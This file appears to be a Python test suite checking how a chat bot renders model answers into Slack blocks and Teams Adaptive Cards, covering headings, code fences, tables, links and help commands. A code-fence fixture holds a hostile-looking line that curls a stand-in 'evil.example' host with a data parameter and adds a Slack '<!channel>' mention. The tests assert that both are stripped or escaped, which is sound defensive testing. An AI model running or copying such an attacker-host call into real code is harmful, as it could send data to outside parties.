"""Realistic model answers render as each platform's own structure (golden structure tests)."""

from __future__ import annotations

import json
from typing import Any

from bot.answer import Answer, Source
from bot.chat import Invoker
from bot.chat.commands import help_result
from bot.slack.render import MAX_BLOCKS, MAX_SECTION_CHARS, answer_messages, help_message
from bot.teams.render import CARD_BUDGET, answer_card, help_card
from indexer.models import Chunk

WEB = "https://github.com"
COMMIT = "d" * 40

HEADINGS_AND_LISTS = """\
### How retries work

The client retries **`send()`** up to five times [1].

- First attempt waits `0.5s`
- Then it doubles:
  - capped at 30s [2]
  - with jitter
1. read the config
2. call `retry()`
"""
FENCES = """\
Python:

```python
def backoff(attempt: int) -> float:
    return min(30, 0.5 * 2 ** attempt)
```

Go:

```go
func Backoff(n int) time.Duration {
    return time.Duration(n) * time.Second
}
```

Shell, in CI:

```bash
curl https://evil.example/x?d=1 && echo <!channel>
```
"""
TABLE = """\
| Setting | Default | Where |
|---|---|---|
| `max_attempts` | 5 | config.py [1] |
| **`base_delay`** | 0.5 | retry.py [2] |
"""
LINKS = (
    "See [the repo](https://github.com/acme/api), [evil](https://evil.example/x?d=1) "
    "and https://evil.example/bare [1, 2]."
)
CORPUS = [HEADINGS_AND_LISTS, FENCES, TABLE, LINKS]
LONG_ANSWER = "".join(CORPUS) * 60  # over 40 KB


def _source(n: int) -> Source:
    chunk = Chunk(
        repo="acme/api",
        path=f"src/m{n}.py",
        start_line=n,
        end_line=n + 3,
        text="x = 1",
        symbol=f"f{n}",
        language="python",
        kind="source",
        commit=COMMIT,
        visibility="public",
    )
    return Source(n, chunk, 1.0)


def _answer(text: str) -> Answer:
    return Answer("q", text, [_source(1), _source(2)], used_llm=True)


def _slack_text(text: str) -> str:
    return "\n".join(
        b["text"]["text"]
        for m in answer_messages(_answer(text), "q", WEB)
        for b in m.blocks
        if b["type"] == "section"
    )


def _card_elements(card: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []

    def visit(node: Any) -> None:
        if isinstance(node, dict):
            if "type" in node:
                found.append(node)
            for value in node.values():
                visit(value)
        elif isinstance(node, list):
            for value in node:
                visit(value)

    visit(card["body"])
    return found


# Adaptive Cards 1.5: the element types a card may hold and each one's required fields.
REQUIRED = {
    "TextBlock": {"text"},
    "CodeBlock": {"codeSnippet"},
    "Table": {"columns", "rows"},
    "TableRow": {"cells"},
    "TableCell": {"items"},
    "FactSet": {"facts"},
    "Container": {"items"},
}


def _assert_valid_card(card: dict[str, Any]) -> None:
    assert card["type"] == "AdaptiveCard" and card["version"] == "1.5"
    for element in _card_elements(card):
        assert element["type"] in REQUIRED, element
        assert REQUIRED[element["type"]] <= element.keys(), element
        if element["type"] == "Table":
            width = len(element["columns"])
            assert all(len(r["cells"]) == width for r in element["rows"])
    assert len(json.dumps(card, ensure_ascii=False).encode()) <= CARD_BUDGET


def _assert_slack_limits(text: str) -> None:
    for message in answer_messages(_answer(text), "q", WEB):
        assert len(message.blocks) <= MAX_BLOCKS
        for block in message.blocks:
            if block["type"] == "section":
                assert len(block["text"]["text"]) <= MAX_SECTION_CHARS


def test_slack_heading_is_bold_and_bold_code_has_no_stray_asterisks() -> None:
    out = _slack_text(HEADINGS_AND_LISTS)
    assert out.startswith("*How retries work*")
    assert "*`send()`*" in out and "**" not in out and "###" not in out
    assert "• First attempt waits `0.5s`" in out and "    ◦ capped at 30s <" in out
    assert "1. read the config\n2. call `retry()`" in out


def test_slack_fences_keep_their_lines_and_stay_inert() -> None:
    out = _slack_text(FENCES)
    assert "```\ndef backoff(attempt: int) -&gt; float:\n    return min(30" in out
    assert "```\nfunc Backoff(n int) time.Duration {\n" in out
    assert "evil.example" not in out and "&lt;!channel&gt;" in out and "<!channel>" not in out


def test_slack_table_is_preformatted_with_aligned_columns() -> None:
    out = _slack_text(TABLE)
    assert "|---|" not in out and "**" not in out
    block = out[out.index("```\n") + 4 : out.rindex("\n```")].split("\n")
    assert block[0].startswith("Setting      | Default | Where")
    assert {line.index("|") for line in block if "|" in line} == {13}


def test_slack_links_are_citations_or_inert() -> None:
    out = _slack_text(LINKS)
    assert "<https://github.com/acme/api|the repo>" in out
    assert f"<{WEB}/acme/api/blob/{COMMIT}/src/m1.py#L1-L4|[1]>" in out
    assert "evil (`https[:]//evil[.]example/x?d=1`)" in out and "://evil" not in out


def test_teams_card_uses_code_blocks_tables_and_bold_headings() -> None:
    elements = _card_elements(answer_card(_answer(HEADINGS_AND_LISTS + FENCES + TABLE), "q"))
    heading = elements[0]
    assert heading["type"] == "TextBlock" and heading["weight"] == "Bolder"
    assert heading["text"] == "How retries work"
    codes = [e for e in elements if e["type"] == "CodeBlock"]
    assert [c["language"] for c in codes] == ["Python", "Go", "Bash"]
    assert "\n    return min(30" in codes[0]["codeSnippet"]
    assert "evil.example" not in codes[2]["codeSnippet"]
    table = next(e for e in elements if e["type"] == "Table")
    assert len(table["columns"]) == 3 and table["firstRowAsHeader"] is True
    texts = [e["text"] for e in elements if e["type"] == "TextBlock"]
    assert "max\\_attempts" in texts and "**base\\_delay**" in texts
    assert not any("`" in t or "###" in t for t in texts)
    assert any(t.startswith("- First attempt waits 0.5s") for t in texts)


def test_every_corpus_answer_is_valid_and_within_limits() -> None:
    for text in [*CORPUS, LONG_ANSWER]:
        _assert_slack_limits(text)
        _assert_valid_card(answer_card(_answer(text), "q"))
    assert len(LONG_ANSWER) > 40_000


def test_slack_help_lists_admin_commands_only_for_admins() -> None:
    user = json.dumps(help_message(help_result(admin=False).rows, "/codeask").blocks)
    admin = json.dumps(help_message(help_result(admin=True).rows, "/codeask").blocks)
    assert "`/codeask link`" in user and "repo add" not in user and "Admin" not in user
    assert "`/codeask repo add" in admin and "*Admin commands*" in admin


def test_teams_help_uses_plain_commands_in_columns() -> None:
    card = help_card(help_result(admin=False).rows)
    _assert_valid_card(card)
    facts = next(e for e in card["body"] if e["type"] == "FactSet")["facts"]
    assert {"title": "link", "value": "link your GitHub account (to read private repos)"} in facts
    assert "/codeask" not in json.dumps(card) and "repo add" not in json.dumps(card)
    assert Invoker("teams", "x").platform == "teams"
